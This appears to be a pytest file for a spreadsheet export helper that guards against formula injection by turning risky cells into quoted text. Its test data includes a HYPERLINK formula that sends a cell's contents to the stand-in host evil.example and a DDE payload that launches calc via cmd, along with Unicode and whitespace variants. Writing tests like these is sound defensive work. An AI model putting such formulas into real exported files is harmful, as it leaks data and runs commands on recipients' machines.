"""Tables that people take away: nothing in them is run (case 16)."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.spreadsheets import csv_bytes, safe_cell, xlsx_bytes

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+81 90 0000 0000",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u3000=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "−1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert safe_cell(text).startswith("'")
    assert safe_cell(safe_cell(text)) == safe_cell(text)
    assert next(csv.reader(io.StringIO(csv_bytes([[text]]).decode("utf-8-sig"))))[0][0] == "'"
    cell = load_workbook(io.BytesIO(xlsx_bytes([[text]]))).active["A1"]
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


@pytest.mark.parametrize(
    "text", ["気仙沼市", "a=b", "1-2", "髙橋 𠮷子", "", "x@example.jp", "100%"]
)
def test_other_texts_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-3, 2.5, Decimal("-1.5"), True, date(2026, 4, 1)])
def test_numbers_and_dates_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_nothing_is_an_empty_cell():
    assert safe_cell(None) == ""


@given(st.text(max_size=40))
def test_no_text_begins_as_a_formula(text):
    assert safe_cell(text)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}
    assert xlsx_bytes([[text]])


def test_a_moment_stands_as_its_clock_shows_it():
    moment = datetime(2026, 4, 1, 9, 30, tzinfo=UTC)
    book = load_workbook(io.BytesIO(xlsx_bytes([["at", moment]], title="a/b[c]")))
    assert book.active["B1"].value == datetime(2026, 4, 1, 9, 30)
    assert book.active.title == "a b c "


def test_a_comma_or_quote_opens_no_second_cell():
    rows = [['a","=1+1', "b,=1", 'c"\r\n=1']]
    read = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8-sig"), newline="")))
    assert read == rows
